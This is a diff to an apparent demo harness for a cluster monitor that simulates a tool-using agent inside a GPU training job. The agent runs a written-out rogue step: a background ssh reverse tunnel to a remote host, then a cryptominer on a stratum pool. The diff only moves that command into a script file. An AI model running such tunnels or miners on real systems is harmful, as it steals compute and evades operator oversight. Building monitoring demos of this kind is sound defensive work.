@@ -47,7 +47,7 @@ def cli(port: int, *args: str) -> subprocess.CompletedProcess:
                           cwd=ROOT, check=False)
 
 
-def training_program(rogue: str, ps_port: int) -> str:
+def training_program(rogue: Path, ps_port: int) -> str:
     return textwrap.dedent(f"""\
         import os, socket, subprocess
         print("trainer: step 1 on the GPU", flush=True)
@@ -55,7 +55,7 @@ def training_program(rogue: str, ps_port: int) -> str:
             try: os.close(os.open(dev, os.O_RDWR))
             except OSError: pass
         print("trainer: my tool-using agent runs a command...", flush=True)
-        out = subprocess.run(["/bin/sh", "-c", {rogue!r}], capture_output=True, text=True).stdout
+        out = subprocess.run(["/bin/sh", {str(rogue)!r}], capture_output=True, text=True).stdout
         print("  " + out.strip().replace(chr(10), chr(10) + "  "), flush=True)
         try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
         except OSError: pass
@@ -105,19 +105,21 @@ def run_demo(monitor: bool) -> int:
                             f"root@{remote.addr}"])
             # the rogue command: a reverse tunnel in the background, then a miner; it cleans up
             # after itself by PID ($T is the tunnel it started)
-            rogue = (f"{ssh} & T=$!; sleep 2; "
-                     f"if kill -0 $T 2>/dev/null; then echo \"agent: reverse tunnel to {remote.addr} is UP\"; "
-                     "else wait $T; echo \"agent: ssh -R exit=$?\"; fi; "
-                     f"{miner} -o stratum+tcp://127.0.0.1:{pool.port} -u 4{'B' * 94} -a rx/0; "
-                     "echo \"agent: miner exit=$?\"; kill $T 2>/dev/null; true")
+            rogue = tmp / "agent_step.sh"    # the agent's command, as a script file (its text is no one's argv)
+            rogue.write_text(f"{ssh} & T=$!; sleep 2; "
+                             f"if kill -0 $T 2>/dev/null; then echo \"agent: reverse tunnel to {remote.addr} is UP\"; "
+                             "else wait $T; echo \"agent: ssh -R exit=$?\"; fi; "
+                             f"{miner} -o stratum+tcp://127.0.0.1:{pool.port} -u 4{'B' * 94} -a rx/0; "
+                             "echo \"agent: miner exit=$?\"; kill $T 2>/dev/null; true\n")
             say("3/5", f"job {JOB}: training on the GPU, then a reverse tunnel and a miner from inside the job")
             job = cg_base / "slurm" / "uid_0" / f"job_{JOB}" / "step_0"
             job.mkdir(parents=True, exist_ok=True)
             script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
                       "&& mknod -m 666 /dev/null c 1 3 && mknod -m 666 /dev/urandom c 1 9 "
-                      f'&& exec {PYTHON} -c "$0"')
+                      f'&& exec {PYTHON} "$0"')
             unshare = shutil.which("unshare") or "/usr/bin/unshare"
-            run = run_in_cgroup(job, [unshare, "-m", "/bin/sh", "-c", script, training_program(rogue, ps.port)],
+            (tmp / "train.py").write_text(training_program(rogue, ps.port))
+            run = run_in_cgroup(job, [unshare, "-m", "/bin/sh", "-c", script, str(tmp / "train.py")],
                                 capture_output=True, text=True, timeout=120)
             print(textwrap.indent(run.stdout.strip(), "   "))
             pool.settle(4)
